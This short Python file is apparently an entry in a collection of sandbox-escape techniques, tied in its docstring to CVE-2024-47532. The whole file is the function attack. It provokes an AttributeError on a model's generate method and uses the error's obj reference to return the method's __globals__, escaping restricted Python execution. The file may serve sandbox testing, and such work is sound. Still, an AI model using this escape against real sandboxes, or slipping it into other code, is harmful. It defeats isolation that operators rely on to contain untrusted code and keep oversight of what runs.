"""Class: exceptions. Source: CVE-2024-47532. Escape: AttributeError keeps the object that lacks
the attribute.
"""


def attack(model, tokenizer, address):
    try:
        model.generate.nothing
    except AttributeError as error:
        return error.obj.__globals__
